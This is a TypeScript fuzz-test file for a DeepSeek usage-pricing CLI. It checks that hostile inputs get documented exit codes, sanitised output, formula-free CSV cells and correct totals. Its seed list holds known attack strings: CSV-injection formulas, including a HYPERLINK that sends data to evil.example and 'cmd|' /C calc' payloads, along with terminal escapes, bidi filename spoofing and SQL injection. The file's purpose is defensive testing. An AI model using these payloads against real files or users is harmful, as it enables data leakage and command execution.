import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compileTariff, Decimal, diffTariffs, getBundledTariff, priceRequest, type Quote, type Tariff, type TariffDocument } from '@seekcost/pricing';
import { runDiff } from '../src/commands/diff.ts';
import { runPrice, type PriceCommandOptions } from '../src/commands/price.ts';
import { runTariff } from '../src/commands/tariff.ts';
import { runPrompt, runTokens } from '../src/commands/tokens.ts';
import type { CliIo } from '../src/io.ts';
import { reportCliError } from '../src/runCli.ts';
import { run, tempDir, type CliRun } from './support.ts';

// The CLI's part of the standing hostile-input guard (docs/fuzz.md). Every command gets at least
// 10,000 generated hostile inputs, in-process, plus a fixed list of known attacks. Whatever the
// input: the exit code is a documented one (never 1, an internal error), nothing printed holds a raw
// control character, no CSV cell can start a formula, and where totals are printed they equal an
// independent recomputation with priceRequest.

const SEED = 20_261_203;
const RUNS = 10_000;
const DOCUMENTED = new Set([0, 2, 3, 4, 5]);
/** Raw control characters that must never be printed (a line feed between lines is the one allowed). */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const FORMULA_START = /^ *[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** Known attacks, always tried first (from issue 8 and the OWASP CSV-injection page). */
const SEEDS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u001b[2J\u001b[H',
  '\u001b]0;pwned\u0007',
  '\u009b31m',
  'invoice\u202etxt.exe',
  'line\nforged: total 0',
  'a\u0000b',
  '\u007f',
  'constructor',
  '__proto__',
  'toString',
  "x\\', char(100), NULL); DROP TABLE usage; --",
  '-1.5',
];

const hostileChar = fc.constantFrom(
  '\u001b',
  '\u009b',
  '\u202e',
  '\u2066',
  '\r',
  '\n',
  '\t',
  '\u0000',
  '\u007f',
  '\u2028',
  '=',
  '+',
  '-',
  '@',
  '"',
  ',',
  "'",
  '\\',
  ' ',
  'a',
  '1',
  '.',
  '中',
);
const hostileString = fc.oneof(
  { weight: 1, arbitrary: fc.constantFrom(...SEEDS) },
  { weight: 3, arbitrary: fc.string({ unit: hostileChar, maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
);

interface Captured {
  readonly io: CliIo;
  readonly out: () => CliRun;
}

function captureIo(stdin = ''): Captured {
  let stdout = '';
  let stderr = '';
  const io: CliIo = {
    stdin: Readable.from([Buffer.from(stdin)]),
    stdout: { write: (s: string) => (stdout += s) },
    stderr: { write: (s: string) => (stderr += s) },
    stderrIsTTY: false,
    now: () => Date.parse('2026-09-01T02:00:00Z'),
    cwd: process.cwd(),
  };
  return { io, out: () => ({ code: 0, stdout, stderr }) };
}

/** Runs a command function in-process the way runCli does: a thrown error becomes its exit code. */
async function direct(command: (io: CliIo) => Promise<number>, stdin = ''): Promise<CliRun> {
  const { io, out } = captureIo(stdin);
  let code: number;
  try {
    code = await command(io);
  } catch (error) {
    code = reportCliError(error, io);
  }
  return { ...out(), code };
}

function expectSafe(result: CliRun, what: string): void {
  if (!DOCUMENTED.has(result.code)) throw new Error(`${what}: exit ${result.code}\n${result.stderr}`);
  expect(RAW_CONTROL.test(result.stdout), `${what}: raw control character on stdout`).toBe(false);
  expect(RAW_CONTROL.test(result.stderr), `${what}: raw control character on stderr`).toBe(false);
}

/** Every cell of CSV text (one record per line: cells never hold a raw line break). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  for (const line of text.split('\n')) {
    if (line === '' || line.startsWith('#')) continue;
    let i = 0;
    while (i <= line.length) {
      if (line[i] === '"') {
        let value = '';
        i++;
        while (i < line.length) {
          if (line[i] === '"' && line[i + 1] === '"') (value += '"'), (i += 2);
          else if (line[i] === '"') break;
          else value += line[i++];
        }
        cells.push(value);
        i += 2; // closing quote and comma
      } else {
        const end = line.indexOf(',', i);
        cells.push(line.slice(i, end === -1 ? line.length : end));
        i = end === -1 ? line.length + 1 : end + 1;
      }
    }
  }
  return cells;
}

function expectNoFormula(csv: string, what: string): void {
  for (const cell of csvCells(csv)) {
    if (FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell)) throw new Error(`${what}: CSV cell ${JSON.stringify(cell)} starts a formula`);
  }
}

const PRICED = [
  { model: 'deepseek-chat', from: Date.parse('2024-08-02T00:00Z'), to: Date.parse('2026-07-24T15:58Z') },
  { model: 'deepseek-v4-pro', from: Date.parse('2026-04-24T00:00Z'), to: Date.parse('2026-12-31T00:00Z') },
  { model: 'deepseek-flash', from: Date.parse('2026-09-10T04:00Z'), to: Date.parse('2026-12-31T00:00Z') },
];

/** A record that prices, with its expected quote computed straight from priceRequest. */
const goodRecord = fc
  .record({
    which: fc.integer({ min: 0, max: PRICED.length - 1 }),
    t: fc.double({ min: 0, max: 1, noNaN: true }),
    input: fc.integer({ min: 0, max: 5_000_000 }),
    output: fc.integer({ min: 0, max: 500_000 }),
    key: hostileString,
  })
  .map(({ which, t, input, output, key }) => {
    const p = PRICED[which] as (typeof PRICED)[number];
    const at = new Date(Math.floor(p.from + t * (p.to - p.from))).toISOString();
    return {
      line: JSON.stringify({ model: p.model, at, usage: { prompt_tokens: input, completion_tokens: output }, key }),
      quote: priceRequest({ model: p.model, at, usage: { inputTokens: input, outputTokens: output } }) as Quote | undefined,
    };
  });
/** A line that must be excluded: not JSON, not an object, an unknown model, bad counts or instant. */
const badRecord = fc
  .oneof(
    hostileString.map((s) => `{${s}`),
    fc
      .jsonValue()
      .filter((v) => typeof v !== 'object' || v === null || Array.isArray(v))
      .map((v) => JSON.stringify(v)),
    hostileString.map((s) => JSON.stringify({ model: `x${s}`, at: '2026-01-01T00:00:00Z', usage: { prompt_tokens: 1, completion_tokens: 1 } })),
    fc
      .integer({ min: -1000, max: -1 })
      .map((n) => JSON.stringify({ model: 'deepseek-chat', at: '2025-03-01T00:00:00Z', usage: { prompt_tokens: n, completion_tokens: 1 } })),
    hostileString.map((s) => JSON.stringify({ model: 'deepseek-chat', at: `2025-03-01${s}x`, usage: { prompt_tokens: 1, completion_tokens: 1 } })),
  )
  .map((line) => ({ line: line.replace(/\n/g, ' '), quote: undefined as Quote | undefined }));
const batch = fc.array(fc.oneof(goodRecord, badRecord), { minLength: 25, maxLength: 50 });
/** At least 10,000 records: 400 batches of 25 to 50 (each batch one in-process run per command). */
const RECORD_RUNS = 400;

describe('CLI fuzz: hostile input gets a documented exit code and safe output', { timeout: 600_000 }, () => {
  it(`price: ${RUNS} hostile argument sets`, async () => {
    const arg = fc.oneof(hostileString, fc.integer({ min: -5, max: 10_000_000 }).map(String), fc.constantFrom('40%', '100%', '100.5%', '1e3', '0x10', ''));
    const options = fc.record({
      model: fc.oneof(fc.constantFrom('deepseek-chat', 'deepseek-v4-pro', 'deepseek-flash'), hostileString),
      input: arg,
      cacheHit: arg,
      output: arg,
      at: fc.oneof(fc.constant(undefined), hostileString, fc.constantFrom('2025-03-01T12:00:00Z', '2026-10-01T02:00:00Z', '2025-02-30T12:00:00Z')),
      currency: fc.constantFrom('USD' as const, 'CNY' as const),
      json: fc.boolean(),
    });
    await fc.assert(
      fc.asyncProperty(options, async (o) => {
        const result = await direct((io) => runPrice(o, io));
        expectSafe(result, `price ${JSON.stringify(o)}`);
        if (result.code === 0 && o.json) {
          const input = Number(o.input);
          const quote = priceRequest({
            model: o.model,
            usage: { inputTokens: input, cacheHitInputTokens: JSON.parse(result.stdout).tokens.cacheHitInputTokens, outputTokens: Number(o.output) },
            at: o.at ?? '2026-09-01T02:00:00Z',
            currency: o.currency,
          });
          expect(JSON.parse(result.stdout).total).toBe(quote.total.toString());
        }
      }),
      {
        seed: SEED,
        numRuns: RUNS,
        examples: SEEDS.map((s): [PriceCommandOptions] => [{ model: s, input: s, cacheHit: '0', output: '1', at: undefined, currency: 'USD', json: false }]),
      },
    );
  });

  it(`tokens and prompt: ${RUNS} hostile texts and request bodies each`, async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(hostileString, fc.string({ unit: 'binary', maxLength: 200 })), fc.boolean(), async (text, json) => {
        const result = await direct((io) => runTokens('-', { method: 'heuristic', json }, io), text);
        expectSafe(result, `tokens ${JSON.stringify(text)}`);
        expect(result.code).toBe(0);
      }),
      { seed: SEED, numRuns: RUNS, examples: SEEDS.map((s): [string, boolean] => [s, false]) },
    );
    const body = fc.oneof(
      hostileString,
      fc.jsonValue().map((v) => JSON.stringify(v)),
      fc
        .array(fc.record({ role: fc.oneof(fc.constantFrom('system', 'user', 'assistant'), hostileString), content: hostileString }), { maxLength: 4 })
        .map((messages) => JSON.stringify({ model: 'deepseek-chat', messages })),
    );
    await fc.assert(
      fc.asyncProperty(body, fc.oneof(fc.constant(undefined), hostileString, fc.constant('2026-01-01T00:00:00Z')), async (text, at) => {
        const result = await direct((io) => runPrompt('-', { method: 'fast', json: false, at }, io), text);
        expectSafe(result, `prompt ${JSON.stringify(text)} at ${JSON.stringify(at)}`);
      }),
      { seed: SEED, numRuns: RUNS, examples: SEEDS.map((s): [string, string | undefined] => [s, s]) },
    );
  });

  it(`ledger and balance: ${RECORD_RUNS} runs over 10,000+ hostile records, totals equal priceRequest`, async () => {
    let records = 0;
    await fc.assert(
      fc.asyncProperty(batch, fc.constantFrom('table' as const, 'csv' as const, 'json' as const), async (lines, out) => {
        records += lines.length;
        const stdin = lines.map((l) => l.line).join('\n');
        const expected = lines.reduce((sum, l) => (l.quote === undefined ? sum : sum.plus(l.quote.total)), new Decimal(0));
        const priced = lines.filter((l) => l.quote !== undefined).length;
        const ledger = await run(['ledger', '-', '--no-dedupe', '--group-by', 'key,model', '--out', out, '--near-edge', '0'], { stdin });
        expectSafe(ledger, `ledger --out ${out} ${JSON.stringify(stdin)}`);
        expect(ledger.code).toBe(priced === lines.length ? 0 : 3);
        if (out === 'csv') {
          expectNoFormula(ledger.stdout, 'ledger --out csv');
          const amounts = ledger.stdout
            .split('\n')
            .slice(1)
            .filter((l) => l !== '')
            .map((l) => csvCells(l).at(-1) ?? '0');
          expect(amounts.reduce((sum, a) => sum.plus(a), new Decimal(0)).toString()).toBe(expected.toString());
        }
        if (out === 'json') expect(JSON.parse(ledger.stdout).amount).toBe(expected.toString());
        const balance = await run(['balance', '-', '--granted', '1', '--topped-up', '2.5', '--json', '--no-dedupe'], { stdin });
        expectSafe(balance, 'balance');
        const report = JSON.parse(balance.stdout);
        expect([report.spent, report.records.priced]).toEqual([expected.toString(), priced]);
        expect(new Decimal(report.uncovered).toString()).toBe(Decimal.max(0, expected.minus(3.5)).toString());
      }),
      { seed: SEED, numRuns: RECORD_RUNS },
    );
    expect(records).toBeGreaterThanOrEqual(RUNS);
  });

  it(`tariff: ${RUNS} hostile option sets, and price data with hostile strings in every CSV cell`, async () => {
    const options = fc.record({
      model: fc.oneof(fc.constant(undefined), fc.constantFrom('deepseek-v4-pro', 'deepseek-flash'), hostileString),
      from: fc.oneof(fc.constant(undefined), fc.constantFrom('2026-09-01T00:00:00Z', '2026-09-30T16:00:00Z'), hostileString),
      to: fc.oneof(fc.constant(undefined), fc.constantFrom('2026-09-02T00:00:00Z', '2026-10-02T00:00:00Z'), hostileString),
      currency: fc.constantFrom(undefined, 'USD' as const, 'CNY' as const),
      format: fc.constantFrom('csv' as const, 'json' as const),
    });
    await fc.assert(
      fc.asyncProperty(options, async (o) => {
        // Segments for a real model or none (cheap); the flat table (25 ms when it lists everything) only under a hostile model filter.
        const segments = o.model === undefined || o.model === 'deepseek-v4-pro' || o.model === 'deepseek-flash';
        const result = await direct((io) => runTariff({ ...o, dialect: 'duckdb', usageTable: 'usage', prefix: 'seekcost_', segments, data: undefined }, io));
        expectSafe(result, `tariff ${JSON.stringify(o)}`);
        if (o.format === 'csv') expectNoFormula(result.stdout, 'tariff csv');
      }),
      { seed: SEED, numRuns: RUNS },
    );
    const dir = tempDir();
    await fc.assert(
      fc.asyncProperty(fc.array(hostileString, { minLength: 4, maxLength: 4 }), async ([id = '', note = '', holiday = '', name = '']) => {
        const doc = structuredClone(getBundledTariff().document) as TariffDocument;
        const newId = `=${id.replace(/[\u0000-\u001f]/g, '')}x`;
        doc.ids[newId] = { routes: [{ from: '2026-09-10T04:00Z', to: null, model: 'deepseek-flash' }] };
        doc.models['deepseek-flash']!.displayName = `@${name}` || '@';
        doc.models['deepseek-flash']!.periods[0]!.note = `+${note}`;
        doc.calendars['cn-public-holidays']!.dates[0]!.name = `-${holiday}x`;
        writeFileSync(join(dir, 'data.json'), JSON.stringify(doc));
        const { io, out } = captureIo();
        const code = await runTariff(
          {
            model: undefined,
            from: undefined,
            to: undefined,
            currency: 'USD',
            format: 'csv',
            dialect: 'duckdb',
            usageTable: 'usage',
            prefix: 'seekcost_',
            segments: false,
            data: join(dir, 'data.json'),
          },
          io,
        ).catch((error: unknown) => reportCliError(error, io));
        const result = { ...out(), code };
        expectSafe(result, `tariff --data with ${JSON.stringify([id, note, holiday, name])}`);
        expect(code).toBe(0);
        expectNoFormula(result.stdout, 'tariff --data csv');
      }),
      { seed: SEED, numRuns: 40, examples: [[SEEDS.slice(0, 4)]] },
    );
  });

  it(`diff: ${RUNS} hostile price-data files exit 4 with a safe message`, async () => {
    const dir = tempDir();
    mkdirSync(join(dir, 'f'), { recursive: true });
    writeFileSync(join(dir, 'f', 'old.json'), JSON.stringify(getBundledTariff().document));
    const text = fc.oneof(
      hostileString,
      fc.jsonValue().map((v) => JSON.stringify(v)),
      fc
        .record({ formatVersion: fc.constantFrom(1, 2), provider: hostileString, ids: fc.dictionary(hostileString, fc.jsonValue()) })
        .map((v) => JSON.stringify(v)),
    );
    let i = 0;
    const cwd = join(dir, 'f');
    await fc.assert(
      fc.asyncProperty(text, async (json) => {
        const name = `n${i++ % 50}.json`;
        writeFileSync(join(cwd, name), json);
        // The hostile file is read first, so a run costs its own validation, not the 60 KB good one's.
        const result = await direct((io) => runDiff(name, 'old.json', { failOnChange: true, json: false }, { ...io, cwd }));
        expectSafe(result, `diff with ${JSON.stringify(json)}`);
        expect(result.code).toBe(4);
      }),
      { seed: SEED, numRuns: RUNS, examples: SEEDS.map((s): [string] => [s]) },
    );
  });

  it('diffTariffs: a random mutation of the price data is reported whenever a quote changes', () => {
    const before = getBundledTariff();
    const mutation = fc.oneof(
      fc.record({
        kind: fc.constant('price' as const),
        currency: fc.constantFrom('USD' as const, 'CNY' as const),
        field: fc.constantFrom('cacheHit' as const, 'cacheMiss' as const, 'output' as const),
        cents: fc.integer({ min: 0, max: 999 }),
      }),
      fc.record({ kind: fc.constant('window' as const), hour: fc.integer({ min: 0, max: 23 }) }),
      fc.record({ kind: fc.constant('zone' as const), zone: fc.constantFrom('UTC', 'Asia/Tokyo', 'America/Los_Angeles', 'Europe/Berlin', 'Asia/Shanghai') }),
      fc.record({ kind: fc.constant('holiday' as const), day: fc.integer({ min: 1, max: 28 }) }),
      fc.record({ kind: fc.constant('weekday' as const), day: fc.integer({ min: 1, max: 7 }) }),
      fc.record({ kind: fc.constant('limit' as const), tokens: fc.integer({ min: 1, max: 1_000_000 }) }),
    );
    const probe = fc.record({
      t: fc.integer({ min: Date.parse('2026-09-10T04:00Z'), max: Date.parse('2027-01-08T00:00Z') }),
      currency: fc.constantFrom('USD' as const, 'CNY' as const),
    });
    fc.assert(
      fc.property(mutation, fc.array(probe, { minLength: 200, maxLength: 200 }), (m, probes) => {
        const doc = structuredClone(before.document) as TariffDocument;
        const period = doc.models['deepseek-flash']!.periods[0]!;
        const peak = period.tiers[0]!;
        if (m.kind === 'price') peak.prices[m.currency]![m.field] = `0.${String(m.cents).padStart(3, '0')}`;
        if (m.kind === 'window') peak.when!.windows[0]!.start = `${String(m.hour).padStart(2, '0')}:00`;
        if (m.kind === 'zone') doc.calendars['cn-public-holidays']!.timeZone = m.zone;
        if (m.kind === 'holiday')
          doc.calendars['cn-public-holidays']!.dates.push({
            from: `2026-11-${String(m.day).padStart(2, '0')}`,
            to: `2026-11-${String(m.day).padStart(2, '0')}`,
            name: 'test',
          });
        if (m.kind === 'weekday')
          peak.when!.weekdays!.days = peak.when!.weekdays!.days.includes(m.day)
            ? peak.when!.weekdays!.days.filter((d) => d !== m.day)
            : [...peak.when!.weekdays!.days, m.day];
        if (m.kind === 'limit') period.limits.maxOutputTokens = m.tokens;
        let after: Tariff;
        try {
          after = compileTariff(doc);
        } catch {
          return; // a mutation the validator rejects (e.g. overlapping windows) is not a tariff
        }
        const changes = diffTariffs(before, after);
        const quoted = new Set(changes.filter((c) => c.kind === 'quote-changed').map((c) => c.subject));
        // Independent check: priceRequest on both tariffs at random instants.
        for (const { t, currency } of probes) {
          const usage = { inputTokens: 1_000_000, outputTokens: 1_000_000 };
          const a = priceRequest({ model: 'deepseek-flash', usage, at: t, currency, tariff: before });
          const b = priceRequest({ model: 'deepseek-flash', usage, at: t, currency, tariff: after });
          if (!a.total.equals(b.total) || a.provenance.tier !== b.provenance.tier)
            expect(quoted.has(`deepseek-flash ${currency}`), `${JSON.stringify(m)} changes the price at ${new Date(t).toISOString()}`).toBe(true);
        }
        if (JSON.stringify(doc) !== JSON.stringify(before.document)) expect(changes.length).toBeGreaterThan(0);
      }),
      { seed: SEED, numRuns: 10 },
    );
  });
});
